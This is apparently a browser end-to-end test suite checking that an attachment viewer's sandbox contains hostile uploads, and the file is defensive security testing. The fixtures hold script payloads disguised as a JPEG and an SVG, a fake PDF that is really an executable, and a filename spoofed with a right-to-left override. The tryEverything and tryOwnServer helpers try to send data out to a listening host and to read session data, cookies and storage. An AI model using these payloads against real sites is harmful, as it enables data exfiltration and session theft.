import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { type RunningProgramme, startProgramme } from '../../packages/cli/src/testing/running-programme.ts';
import { launchChromium } from '../support/browsers.ts';
import { accessibilityFindings, isWiderThanScreen } from './axe.ts';
import * as desk from './desk.ts';
import { newProfile, type Profile } from './desk-profile.ts';
import { view } from './files.ts';
import {
  endlessPdf,
  type HostileFile,
  scriptedPdf,
  smallPng,
  tone,
  upload,
  vastPdf,
  vastPng,
} from './hostile-files.ts';
import { sendReport } from './hostile-reporter.ts';
import { type ListeningPost, startListening } from './listening-post.ts';

// What strangers send is looked at where it can do nothing: no network, no keys, no desk.

let programme: RunningProgramme;
let browser: Browser;
let profile: Profile;
let page: Page;
let post: ListeningPost;

beforeAll(async () => {
  [programme, browser, post] = await Promise.all([startProgramme(), launchChromium(), startListening()]);
  profile = await newProfile(browser);
  page = profile.page;
  await desk.setUpFirstLead(page, programme.setupLink ?? '', 'Mira Sand');
});
afterEach(async () => {
  // What one test leaves open is not the next one's.
  await page.evaluate(() => document.querySelector('dialog')?.close());
});
afterAll(async () => {
  await browser.close();
  await programme.remove();
  await post.close();
});

const PATIENT = { timeout: 20_000 };
const utf8 = (text: string) => new TextEncoder().encode(text);

/** Sends a report with these files, claims it and opens it. */
async function receive(files: readonly HostileFile[]): Promise<void> {
  const uploaded = [];
  for (const file of files) uploaded.push(await upload(programme, file));
  await sendReport(programme, {
    change: { attachments: uploaded.map(({ attachment }) => attachment) },
    uploads: uploaded.map(({ upload: id }) => id),
  });
  await desk.waitForNews(page);
  await desk.claimNext(page);
}

/** The frame, once it shows something. By script: what waits for elements would wait for the closed frame too. */
async function sandbox(): Promise<Frame> {
  await page.waitForFunction(() => document.querySelector('iframe[data-drawn]') !== null);
  const frame = page.frames().find((each) => each.url().includes('/desk/viewer/sandbox-'));
  if (frame === undefined) throw new Error('nothing is shown');
  return frame;
}

test('pictures, sound, text and pages of a PDF are shown, one after the other, by keyboard alone', async () => {
  await receive([
    { name: 'gate.png', type: 'image/png', bytes: smallPng() },
    { name: 'hum.wav', type: 'audio/wav', bytes: tone() },
    { name: 'letter.pdf', type: 'application/pdf', bytes: scriptedPdf(post.url) },
    { name: 'notes.txt', type: 'text/plain', bytes: utf8('North gate\nابواب\nphoto\u202Egpj.exe') },
  ]);
  const opener = desk.letter(page).getByRole('button', { name: /^Open.*gate.png$/ });
  await opener.focus();
  await page.keyboard.press('Enter');
  await sandbox();
  await page.getByRole('dialog', { name: 'Attachment gate.png' }).getByText('12 × 8 pixels').waitFor();
  expect(await accessibilityFindings(page)).toEqual([]);
  await page.keyboard.press('+');
  const width = async () => (await sandbox()).evaluate(() => document.querySelector('img')?.clientWidth);
  await expect.poll(width, PATIENT).toBe(15);

  await page.keyboard.press('n');
  const sound = page.getByRole('dialog', { name: 'Attachment hum.wav' });
  await expect.poll(async () => countOf(await sandbox(), 'video'), PATIENT).toBe(1);
  await sound.getByText('Film or sound').waitFor();

  await page.keyboard.press('n');
  const letter = page.getByRole('dialog', { name: 'Attachment letter.pdf' });
  await expect.poll(async () => countOf(await sandbox(), 'canvas'), PATIENT).toBe(1);
  const pdf = await sandbox();
  await letter.getByText('Page 1 of 2').waitFor();
  expect(await textOf(pdf, 'main')).toContain('First page');
  expect(await inkOf(pdf)).toBeGreaterThan(0.01);
  await page.keyboard.press('PageDown');
  await letter.getByText('Page 2 of 2').waitFor();
  expect(await textOf(pdf, 'main')).toContain('Second page');
  // Keys that are pressed while what is shown has the focus are the desk's all the same.
  await pdf.evaluate(() => document.getElementById('shown')?.focus());
  await page.keyboard.press('PageUp');
  await letter.getByText('Page 1 of 2').waitFor();

  await page.keyboard.press('n');
  const notes = page.getByRole('dialog', { name: 'Attachment notes.txt' });
  await expect.poll(async () => countOf(await sandbox(), 'pre'), PATIENT).toBe(1);
  await notes.getByText('marks that turn the direction of writing').waitFor();
  expect(await textOf(await sandbox(), 'pre')).toContain('photo⟨U+202E⟩gpj.exe');
  expect(await accessibilityFindings(page)).toEqual([]);
  await page.keyboard.press('s');
  await notes.getByRole('link', { name: 'Save a copy' }).waitFor();
  expect(await accessibilityFindings(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await notes.waitFor({ state: 'hidden' });
  await expect.poll(() => opener.evaluate((it) => it === document.activeElement)).toBe(true);
  expect(profile.faults).toEqual([]);
});

test('a page, a drawing and a program are never run, and what they are is told', async () => {
  const script = `fetch('${post.url}/got-out');top.location='${post.url}/top'`;
  await receive([
    { name: 'holiday.jpg', type: 'image/jpeg', bytes: utf8(`<html><script>${script}</script><img src=x>`) },
    {
      name: 'map.svg',
      type: 'image/svg+xml',
      bytes: utf8(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${post.url}/i"/></svg>`,
      ),
    },
    { name: 'invoice.pdf', type: 'application/pdf', bytes: Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1') },
  ]);
  const holiday = await view(page, 'holiday.jpg');
  await sandbox();
  await holiday
    .getByText('It was sent as \u2068image/jpeg\u2069, but what it contains is something else')
    .waitFor();
  const shown = await sandbox();
  expect(await textOf(shown, 'pre')).toContain('<script>');
  expect(await countOf(shown, 'main :not(pre)')).toBe(0);
  await page.keyboard.press('n');
  await expect.poll(async () => textOf(await sandbox(), 'pre'), PATIENT).toContain('onload=');
  await page.getByRole('dialog', { name: 'map.svg' }).getByText('shown as its text').waitFor();
  expect(await textOf(await sandbox(), 'pre')).toContain('onload=');
  await page.keyboard.press('n');
  const invoice = page.getByRole('dialog', { name: 'invoice.pdf' });
  await invoice.getByText('This is a program.').waitFor();
  await invoice.getByText('something else: Program or script').waitFor();
  expect(await page.locator('iframe').count()).toBe(0);
  await page.keyboard.press('Escape');
  expect(post.heard).toEqual([]);
});

test('what would be too large or would never end is stopped, and the desk goes on', async () => {
  await receive([
    { name: 'vast.png', type: 'image/png', bytes: vastPng() },
    { name: 'torn.png', type: 'image/png', bytes: vastPng(900, 900) },
    { name: 'endless.pdf', type: 'application/pdf', bytes: endlessPdf() },
    { name: 'vast.pdf', type: 'application/pdf', bytes: vastPdf() },
    { name: 'broken.pdf', type: 'application/pdf', bytes: Buffer.from('%PDF-1.7\nnothing') },
  ]);
  await (await view(page, 'vast.png')).getByText('It would be too large').waitFor();
  await page.keyboard.press('n');
  await page.getByRole('dialog', { name: 'torn.png' }).waitFor();
  await page.keyboard.press('n');
  const endless = page.getByRole('dialog', { name: 'endless.pdf' });
  // Meanwhile the desk answers at once.
  await page.getByRole('dialog', { name: 'endless.pdf' }).getByText('Reading it').waitFor();
  await endless.getByText('It took too long to draw and was stopped.').waitFor({ timeout: 60_000 });
  await page.keyboard.press('n');
  const vast = page.getByRole('dialog', { name: 'vast.pdf' });
  await expect.poll(async () => countOf(await sandbox(), 'canvas'), { timeout: 30_000 }).toBe(1);
  await vast.getByRole('button', { name: 'Fit' }).waitFor();
  const size = await (await sandbox()).evaluate(() => {
    const { width, height } = document.querySelector('canvas') as HTMLCanvasElement;
    return width * height;
  });
  expect(size).toBeLessThanOrEqual(16_100_000);
  await page.keyboard.press('n');
  await page.getByRole('dialog', { name: 'broken.pdf' }).getByText('It is damaged').waitFor();
  await page.keyboard.press('Escape');
});

test('code that runs in the sandbox gets nothing out, and nothing of the desk in', async () => {
  await receive([{ name: 'plain.txt', type: 'text/plain', bytes: utf8('Nothing special') }]);
  const viewer = await view(page, 'plain.txt');
  const frame = await sandbox();
  const before = post.heard.length;
  const { url, datagrams } = post;
  // As if a fault in what draws had let somebody in.
  const reached = await frame.evaluate(tryEverything, { url, datagrams });
  expect(reached).toEqual([]);
  const own = await frame.evaluate(tryOwnServer, programme.deskUrl);
  expect(own).toEqual([]);
  await page.waitForTimeout(1_500);
  expect(post.heard.slice(before)).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  // It may go nowhere either: the frame holds the sandbox or nothing.
  await frame.evaluate((to) => void (location.href = `${to}/navigated?secret`), url).catch(() => {});
  await page.waitForTimeout(500);
  await frame
    .evaluate((to) => void (location.href = `${to}/desk/api/v1/session`), programme.deskUrl)
    .catch(() => {});
  await page.waitForTimeout(500);
  expect(post.heard.slice(before)).toEqual([]);
  expect(page.url()).toContain(`${programme.deskUrl}/desk/`);
  await viewer.getByRole('button', { name: 'Close' }).click();
  expect(profile.elsewhere.filter((each) => !each.startsWith(post.url))).toEqual([]);
});

test('opened by itself the sandbox is nobody’s origin too, and no connection is made for it', async () => {
  const address = await sandboxAddress();
  const alone = await profile.context.newPage();
  // Before its script takes it away.
  await alone.addInitScript('globalThis.keptBack = globalThis.RTCPeerConnection');
  const answer = await alone.goto(address);
  const { 'content-security-policy': policy = '', ...headers } = answer?.headers() ?? {};
  for (const part of [
    "default-src 'none'",
    "connect-src 'none'",
    'sandbox allow-scripts',
    "form-action 'none'",
    "frame-ancestors 'self'",
  ])
    expect(policy.split('; ')).toContain(part);
  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')|https?:/);
  expect(headers['connection-allowlist']).toBe('()');
  expect(await alone.evaluate(() => [self.origin, 'RTCPeerConnection' in self])).toEqual(['null', false]);
  const before = post.heard.length;
  await alone.evaluate(async (to) => {
    const { keptBack } = globalThis as unknown as { keptBack: typeof RTCPeerConnection };
    const peer = new keptBack({ iceServers: [{ urls: `stun:${to}` }] });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1_500));
  }, post.datagrams);
  expect(post.heard.slice(before)).toEqual([]);
  await alone.close();
});

test('on a narrow screen, in the dark and from right to left the viewer has room', async () => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.emulateMedia({ colorScheme: 'dark' });
  const viewer = await view(page, 'plain.txt');
  await sandbox();
  expect(await isWiderThanScreen(page)).toBe(false);
  expect(await accessibilityFindings(page)).toEqual([]);
  await viewer.getByRole('button', { name: 'Close' }).click();
});

async function sandboxAddress(): Promise<string> {
  await view(page, 'plain.txt');
  const address = (await sandbox()).url();
  await page.keyboard.press('Escape');
  return address;
}

// By script alone: the sandbox is closed to what looks for elements from outside.

function textOf(frame: Frame, selector: string): Promise<string | null | undefined> {
  return frame.evaluate((wanted) => document.querySelector(wanted)?.textContent, selector);
}

function countOf(frame: Frame, selector: string): Promise<number> {
  return frame.evaluate((wanted) => document.querySelectorAll(wanted).length, selector);
}

/** The share of a page that is not white. */
function inkOf(frame: Frame): Promise<number> {
  return frame.evaluate(() => {
    const canvas = document.querySelector('canvas') as HTMLCanvasElement;
    const copy = new OffscreenCanvas(canvas.width, canvas.height);
    const context = copy.getContext('2d');
    if (context === null) return 0;
    context.drawImage(canvas, 0, 0);
    const { data } = context.getImageData(0, 0, canvas.width, canvas.height);
    let dark = 0;
    for (let i = 0; i < data.length; i += 4) if ((data[i] ?? 255) < 128) dark += 1;
    return dark / (data.length / 4);
  });
}

/** Runs in the sandbox. Returns what worked. */
async function tryEverything({ url, datagrams }: { url: string; datagrams: string }): Promise<string[]> {
  const worked: string[] = [];
  const within = (work: Promise<unknown>) =>
    Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('silence')), 1_000))]);
  const attempt = (name: string, act: () => unknown) =>
    within(Promise.resolve().then(act)).then(
      () => void worked.push(name),
      () => {},
    );
  const loads = (element: HTMLElement) =>
    new Promise((resolve, reject) => {
      element.onload = resolve;
      element.onerror = reject;
      document.body.append(element);
    });
  const add = (tag: string, attributes: Record<string, string>) =>
    loads(Object.assign(document.createElement(tag), attributes));
  await attempt('fetch', () => fetch(`${url}/fetch`));
  await attempt('fetch without cors', () => fetch(`${url}/no-cors`, { mode: 'no-cors' }));
  await attempt('image', () => add('img', { src: `${url}/image` }));
  await attempt('script', () => add('script', { src: `${url}/script` }));
  await attempt('style', () => add('link', { rel: 'stylesheet', href: `${url}/style` }));
  await attempt('media', () => add('video', { src: `${url}/video`, autoplay: 'true' }));
  await attempt('object', () => add('object', { data: `${url}/object` }));
  // It always says that it will be sent.
  navigator.sendBeacon(`${url}/beacon`);
  await attempt(
    'socket',
    () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(url.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
  );
  await attempt(
    'events',
    () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${url}/events`);
        source.onopen = resolve;
        source.onerror = reject;
      }),
  );
  await attempt(
    'worker',
    () =>
      new Promise((resolve, reject) => {
        const script = `fetch('${url}/worker').then(()=>postMessage(1),()=>{try{importScripts('${url}/import');postMessage(1)}catch{close()}})`;
        const worker = new Worker(URL.createObjectURL(new Blob([script])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      }),
  );
  for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon']) {
    await attempt(rel, () => add('link', { rel, href: `${url}/${rel}`, as: 'image' }));
  }
  await attempt(
    'rtc',
    () =>
      new Promise((resolve) => {
        const inner = document.createElement('iframe');
        document.body.append(inner);
        const { RTCPeerConnection: Peer } = inner.contentWindow as unknown as typeof globalThis;
        const peer = new Peer({ iceServers: [{ urls: `stun:${datagrams}` }] });
        peer.createDataChannel('out');
        peer.onicecandidate = ({ candidate }) => candidate?.candidate.includes('srflx') && resolve(null);
        void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
      }),
  );
  await attempt('popup', () => window.open(`${url}/popup`) ?? Promise.reject(new Error('no')));
  const form = document.createElement('form');
  Object.assign(form, { action: `${url}/form`, method: 'post' });
  document.body.append(form);
  try {
    form.submit();
  } catch {}
  await attempt('top', () => {
    (window.top as Window).location.href = `${url}/top`;
  });
  await attempt(
    'dialogue',
    () => window.confirm('You have been signed out') || Promise.reject(new Error('no')),
  );
  await attempt('frame', () => {
    const inner = document.createElement('iframe');
    inner.src = `${url}/frame`;
    document.body.append(inner);
    return new Promise((_, reject) => setTimeout(() => reject(new Error('no')), 300));
  });
  return worked;
}

/** Runs in the sandbox. Returns what of the desk could be reached. */
async function tryOwnServer(deskUrl: string): Promise<string[]> {
  const worked: string[] = [];
  const attempt = async (name: string, act: () => unknown) => {
    try {
      await act();
      worked.push(name);
    } catch {}
  };
  await attempt('own fetch', () => fetch(`${deskUrl}/desk/api/v1/session`, { credentials: 'include' }));
  await attempt('parent document', () => window.parent.document.title);
  await attempt('parent storage', () => window.parent.localStorage);
  await attempt('top document', () => (window.top as Window).document.body);
  await attempt('storage', () => localStorage.length);
  await attempt('session storage', () => sessionStorage.length);
  await attempt('cookie', () => document.cookie);
  await attempt('databases', () => indexedDB.open('x').onerror ?? indexedDB.databases());
  await attempt('caches', () => caches.open('x'));
  await attempt('service worker', () => navigator.serviceWorker.register('/desk/x.js'));
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  return worked;
}
